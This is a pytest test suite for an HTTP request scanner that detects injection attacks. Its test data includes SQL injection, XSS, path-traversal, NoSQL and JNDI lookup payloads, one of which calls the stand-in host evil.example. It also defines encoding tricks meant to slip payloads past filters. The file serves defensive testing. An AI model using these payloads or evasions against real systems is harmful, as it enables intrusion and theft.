"""The scanner's verdicts on a small corpus of our own, and that its time is linear."""

from __future__ import annotations

import random
import time
from pathlib import Path
from urllib.parse import quote, unquote_to_bytes

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pihub._core.matcher import Literals
from pihub._core.scanner import CLASSES, PLACES, Gate, Scanner
from pihub.security.scanner.keywords import FILE, load
from tests.effort import examples

CORPUS = Path(__file__).parents[1] / "corpus" / "scanner"
BLOCK = {"path": 60, "query": 60, "header": 70, "key": 60, "form": 60, "json": 80}


def lines(name: str) -> list[list[str]]:
    text = (CORPUS / f"{name}.txt").read_text("utf-8")
    return [line.split("\t") for line in text.splitlines() if line and not line.startswith("#")]


def points(scanner: Scanner, place: str, text: str) -> int:
    """Headers are not encoded, the rest is."""
    raw = unquote_to_bytes(text) if place == "header" else text.encode()
    found = scanner.value(raw, place, encoded=place != "header")
    return 0 if found is None else found[0]


@pytest.mark.parametrize(("place", "kind", "text"), lines("attacks"))
def test_attacks_are_found(scanner: Scanner, place: str, kind: str, text: str) -> None:
    raw = unquote_to_bytes(text) if place == "header" else text.encode()
    found = scanner.value(raw, place, encoded=place != "header")
    assert found is not None
    assert found[0] >= BLOCK[place], found
    assert found[1] in CLASSES and found[3] == place
    assert kind in CLASSES


@pytest.mark.parametrize(("place", "text"), lines("benign"))
def test_honest_values_are_not_blocked(scanner: Scanner, place: str, text: str) -> None:
    assert points(scanner, place, text) < BLOCK[place]


def test_the_number_of_notes_on_honest_values_never_rises(scanner: Scanner) -> None:
    noted = [t for place, t in lines("benign") if points(scanner, place, t) >= BLOCK[place] * 0.75]
    assert noted == []


def test_texts_in_json_are_not_blocked(scanner: Scanner) -> None:
    noted = 0
    for (text,) in lines("fields"):
        found = scanner.value(text.encode(), "json")
        assert found is None or found[0] < BLOCK["json"], text
        noted += found is not None and found[0] >= BLOCK["json"] * 0.75
    assert noted == 0


def test_a_head_in_json_is_no_head_that_was_broken_into(scanner: Scanner) -> None:
    """Reports about requests carry whole heads; a line that is added to a value is still noted."""
    head = b"cache-control: no-store\r\ncontent-length: 12\r\nlocation: /made-up"
    found = scanner.value(head, "json")
    assert found is None or found[0] < BLOCK["json"] * 0.75
    for value, place in ((b"made up\r\n" + head, "json"), (head, "query"), (head, "form")):
        found = scanner.value(value, place)
        assert found is not None and found[2] == "header-after-newline", (value, place)
        assert found[0] >= BLOCK[place] * 0.75


EVASIONS = {
    "plain": lambda v: v,
    "after prose": lambda v: quote("this is a sentence of some eighty bytes that says nothing "
                                   "at all about it ") + v,
    "encoded once more": lambda v: quote(v),
    "encoded twice more": lambda v: quote(quote(v)),
    "entities": lambda v: quote("".join(f"&#{b};" if chr(b) in "<>'\"=();/.|&" else chr(b)
                                        for b in unquote_to_bytes(v))),
    "%uXXXX": lambda v: "".join(f"%u{b:04x}" if chr(b) in "<>'\"=();/.|& " else chr(b)
                                for b in unquote_to_bytes(v)),
    "fullwidth": lambda v: quote("".join(chr(b + 0xFEE0) if chr(b) in "<>'\"=();/.|" else chr(b)
                                         for b in unquote_to_bytes(v))),
    "NUL": lambda v: v.replace("e", "%00e"),
}  # fmt: skip
EVADING = [
    text
    for place, kind, text in lines("attacks")
    if place == "query" and kind in ("sql", "xss", "path", "shell") and text.isascii()
    and "%c0" not in text and "%EF" not in text and "%25" not in text and "&" not in text
]  # fmt: skip


@pytest.mark.parametrize("how", EVASIONS)
def test_disguises(scanner: Scanner, how: str) -> None:
    missed = [t for t in EVADING if points(scanner, "query", EVASIONS[how](t)) < 60]
    assert missed == []


TRIGGERS = [
    "'", '"', "`", "<", "<a ", "<!--", "/*", "*/", "--", "(", ")", ";", "|", "&", "&#", "%", "%u",
    "\\u", "\\u{", "../", "./", ".", "etc", "0x2e", "union ", "select ", "or 1=", "' or ", "{{",
    "${", "$(", "[]", "[", "{", '{"a":', "=", "http://a?", "a=b&", "on", "onx=", "\xc0",
    "\xe0\x80",
    "java", ":", "@", "@@", "#", "order by 1,", "cat ", "a.", "a(", "if(", "sleep(",
    "<a b=", "etc/",
    '<a b="<', '<a style="{', '<a src="//', "<a src=http://1", "<f o r m", "<a:", "<a x-",
    "a(1);", "';a(1);", "');a(", "{a:", "]{a:url(", "-->", '"-->', "((", "&{", "document.a(",
    "&lt", "&#0", "a=b onload=",
    "<p style=\"a:'", "' src=", "{a:(", "a()>", "f()/", "</title", "<rect a",
]  # fmt: skip


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_time_is_linear(scanner: Scanner, trigger: str) -> None:
    def seconds(n: int) -> float:
        data = (trigger * (n // len(trigger))).encode("latin-1")
        best = 9.0
        for _ in range(2):
            begin = time.thread_time()
            scanner.value(data, "query", encoded=True)
            best = min(best, time.thread_time() - begin)
        return best

    # Quadratic work would be eight times as slow a byte; noise is not.
    assert seconds(128 * 1024) < 8 * 4 * seconds(16 * 1024) + 0.02


COMMON = [
    "the",
    "of",
    "and",
    "to",
    "in",
    "is",
    "that",
    "for",
    "it",
    "was",
    "with",
    "on",
    "his",
    "but",
]


@pytest.mark.parametrize("trigger", [*TRIGGERS, "<object> ", "<iframe>; "])
def test_time_is_linear_in_sentences(scanner: Scanner, trigger: str) -> None:
    """Of what repeats itself the middle is left out before a rule sees it; of this it is not."""

    def seconds(n: int) -> float:
        draw, told, size = random.Random(n), [], 0
        while size < n:
            told += [*draw.choices(COMMON, k=draw.randrange(1, 5)), trigger]
            size += sum(len(word) + 1 for word in told[-5:])
        data = " ".join(told).encode("latin-1")[:n]
        best = 9.0
        for _ in range(2):
            begin = time.thread_time()
            scanner.value(data, "json")
            best = min(best, time.thread_time() - begin)
        return best

    assert seconds(256 * 1024) < 16 * 4 * seconds(16 * 1024) + 0.02


SHARED = Scanner(load(), bytes(8))
MULTIPART = ["--x", "--", "\r\n", "\n\n", '; name="a"', "; filename=a.ph", '; filename="', "<?php"]


@examples(400)
@given(
    parts=st.lists(
        st.one_of(st.sampled_from([*TRIGGERS, *MULTIPART]), st.text(max_size=12)), max_size=30
    ),
    place=st.sampled_from(PLACES),
    encoded=st.booleans(),
)
def test_any_input_has_a_verdict(parts: list[str], place: str, encoded: bool) -> None:
    scanner = SHARED
    data = "".join(parts).encode("utf-8", "surrogatepass")
    found = scanner.value(data, place, encoded)
    assert found is None or (1 <= found[0] <= 100 and found[1] in CLASSES)
    for kind in ("json", "form", "text", "multipart"):
        body = b"--x\r\n" + data if kind == "multipart" else data
        judged, depth, values = scanner.body(body, kind, "json")
        assert depth <= 65 and values >= 0
        assert judged is None or judged[3] in ("json", "key", "form")


@pytest.mark.parametrize("word", ["page", "chapter", "hello", "say", "documentation"])
def test_any_word_makes_it_prose(scanner: Scanner, word: str) -> None:
    """Two dashes after a number end a statement only where nothing but SQL stands before."""
    for prose in (f"{word} 2 --", f"the {word} 2 --"):
        found = scanner.value(prose.encode(), "query")
        assert found is not None and found[0] == 20, prose
    found = scanner.value(b"1 * 1 --", "query")
    assert found is not None and found[0] == 60


@pytest.mark.parametrize("rest", [" or a=b", " and a=b#", " or a=b -- "])
def test_a_condition_without_a_beginning_is_sql(scanner: Scanner, rest: str) -> None:
    """In a form it is the end of a note about a formula."""
    assert points(scanner, "query", quote(rest)) >= BLOCK["query"]
    assert points(scanner, "form", quote(" or a=b")) < BLOCK["form"] * 0.75
    assert points(scanner, "query", quote(f"either a > b{rest[:7]} or b = c")) < BLOCK["query"]


@pytest.mark.parametrize("value", ["or true--", "and false -- ", "xor null--"])
def test_a_constant_between_an_operator_and_a_comment_is_sql(scanner: Scanner, value: str) -> None:
    assert points(scanner, "query", value) >= BLOCK["query"]
    assert points(scanner, "query", value.replace("--", "")) < BLOCK["query"]


@pytest.mark.parametrize("tag", ["<body>", "</html>", "<html lang=en>"])
def test_a_page_is_no_query(scanner: Scanner, tag: str) -> None:
    """In a form or a JSON text it is somebody's letter."""
    assert points(scanner, "query", quote(tag)) >= BLOCK["query"]
    for place in ("form", "json"):
        assert points(scanner, place, tag) < BLOCK[place] * 0.75
    assert points(scanner, "query", quote(f"the {tag} of a page is where the text begins")) < 60


def test_what_lies_far_behind_is_seen(scanner: Scanner) -> None:
    padding = b"a honest sentence, again and again. " * 30_000
    found = scanner.value(padding + b"' or 1=1-- ", "query")
    assert found is not None
    assert found[0] >= 60
    assert found[5] >= len(padding) - 10


@pytest.mark.parametrize("pattern", [b"abc ", b"'", b"${", b"x%27y", b"0123456789abcdef. "])
def test_repeats_hide_nothing_between_them(scanner: Scanner, pattern: bytes) -> None:
    """Their middles are not judged: what begins or ends them, or stands between, is."""
    many = pattern * (200_000 // len(pattern))
    hidden = many + b"<script>alert(5)</script> " + many[: len(many) // 2]
    found = scanner.value(hidden, "json")
    assert found is not None
    assert found[1] == "xss" or found[0] >= 60
    clean = scanner.value(b"abc " * 50_000 + b"<script>x</script>" + b"abc " * 50_000, "query")
    assert clean is not None
    assert (clean[1], clean[5]) == ("xss", 200_001)


def test_leaves_of_json_are_judged_by_themselves(scanner: Scanner) -> None:
    body = b'{"name": "x\\u0027 or 1=1--", "deep": [[{"a": 1}]]}'
    found, depth, values = scanner.body(body, "json", "json")
    assert found is not None
    assert found[3:5] == ("json", "name")
    assert depth == 4
    assert values == 4
    assert scanner.body(b'{"a": "it\'s", "b": "or", "c": "1=1"}', "json", "json")[0] is None
    found, _, _ = scanner.body(b'{"user": {"$ne": null}}', "json", "json")
    assert found is not None
    assert found[1] == "nosql"


def test_a_url_in_a_value_is_split(scanner: Scanner) -> None:
    hidden = quote("https://example.org/?x=1&y=" + quote("<script>alert(1)</script>"), safe="")
    found = scanner.value(hidden.encode(), "query", encoded=True)
    assert found is not None
    assert found[1] == "xss"
    assert found[4] == "y"


def environ(**fields: str) -> dict[str, object]:
    return {"PATH_INFO": "/v1/models", "QUERY_STRING": "", "REQUEST_METHOD": "GET"} | fields


def test_a_request_in_one_call(scanner: Scanner) -> None:
    agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    clean = environ(HTTP_USER_AGENT=agent, QUERY_STRING="limit=5&after=x")
    for _ in range(3):
        assert scanner.request(clean) is None
    for where, change in {
        "query": {"QUERY_STRING": "q=%3Cscript%3E"},
        "path": {"PATH_INFO": "/../../etc/passwd"},
        "header": {"HTTP_X_NAME": "${jndi:ldap://evil.example/a}"},
        "key": {"QUERY_STRING": "a[$ne]=1"},
    }.items():
        for _ in range(2):
            found = scanner.request(environ(HTTP_USER_AGENT=agent, **change))
            assert found is not None, where
            assert found[3] == where
    assert scanner.request(environ(HTTP_AUTHORIZATION="Bearer ' or 1=1--")) is None


def test_the_gate_asks_the_judge_and_else_the_application(scanner: Scanner) -> None:
    asked = []

    def judge(found: object, env: dict[str, object], start: object) -> list[bytes] | None:
        asked.append(found)
        return [b"no"] if env["PATH_INFO"] != "/let" else None

    gate = Gate(lambda env, start: [b"yes"], scanner, judge)
    assert gate(environ(), print) == [b"yes"]
    assert asked == []
    assert gate(environ(QUERY_STRING="q='%20or%201=1--"), print) == [b"no"]
    assert gate(environ(QUERY_STRING="q='%20or%201=1--", PATH_INFO="/let"), print) == [b"yes"]
    assert len(asked) == 2


def test_refuses() -> None:
    with pytest.raises(ValueError, match="8 bytes"):
        Scanner(Literals(()), b"short")
    scanner = Scanner(load(), bytes(8))
    with pytest.raises(ValueError, match="not in tuple"):
        scanner.value(b"", "nowhere")
    with pytest.raises(KeyError):
        scanner.body(b"", "picture", "json")
    assert FILE.is_file()
